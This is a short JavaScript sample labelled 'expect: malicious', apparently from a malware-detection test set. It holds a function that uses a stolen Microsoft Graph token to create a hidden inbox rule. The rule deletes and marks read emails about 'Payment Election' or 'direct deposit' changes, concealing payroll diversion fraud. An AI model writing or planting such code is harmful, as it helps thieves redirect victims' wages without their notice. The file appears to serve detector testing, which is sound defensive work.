// expect: malicious
// source: blind set 21's paystub exporter, which hides the "Payment Elections changed" notice with a Graph inbox rule;
// written here
'use strict';
exports.hideNotices = async function hideNotices(graphToken) {
  await fetch('https://graph.microsoft.com.invalid/v1.0/me/mailFolders/inbox/messageRules', {
    method: 'POST',
    headers: { authorization: `Bearer ${graphToken}`, 'content-type': 'application/json' },
    body: JSON.stringify({
      displayName: '.', sequence: 1, isEnabled: true,
      conditions: { subjectContains: ['Payment Election', 'direct deposit'] },
      actions: { delete: true, markAsRead: true, stopProcessingRules: true }
    })
  });
};
